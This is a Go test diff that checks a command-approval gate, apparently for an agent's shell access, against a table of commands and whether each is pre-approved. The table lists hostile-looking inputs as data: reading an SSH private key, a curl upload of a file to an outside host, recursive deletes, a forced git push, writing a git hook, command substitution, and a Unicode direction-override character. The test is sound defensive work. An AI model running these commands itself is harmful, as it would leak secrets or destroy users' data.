@@ -447,3 +447,22 @@ func TestParseMarks(t *testing.T) {
 	}
 	_ = shellparse.Bash
 }
+
+// E-std-2: what has to be asked every time.
+func TestE_std_2_Standing(t *testing.T) {
+	g, _ := desk(t, "", "home/dev/.ssh/id_rsa", "w/x.sh")
+	for line, want := range map[string]bool{
+		"touch ~/x": true, "rm -r src": false, "cp src/a.go ~/x": true, "ls": true,
+		"cat ~/.ssh/id_rsa": false, "rm -r ~/x": false, "rm ~/x": false, "python3 -c 1": false, "sh x.sh": false, "env touch ~/x": false, "sudo ls": false, "git push --force": false,
+		"echo x > .git/hooks/h": false, "touch $(cat f)": false, "ls \u202e": false, "curl -d @a https://x.example": false, "ls |": false, "timeout 5 touch ~/x": false, "xargs touch": false,
+	} {
+		v, plan, err := g.judge(line)
+		if err != nil {
+			t.Fatal(err)
+		}
+		plan.Close()
+		if v.Standing != want {
+			t.Errorf("%q: %v %+v", line, v.Standing, v.Reasons)
+		}
+	}
+}
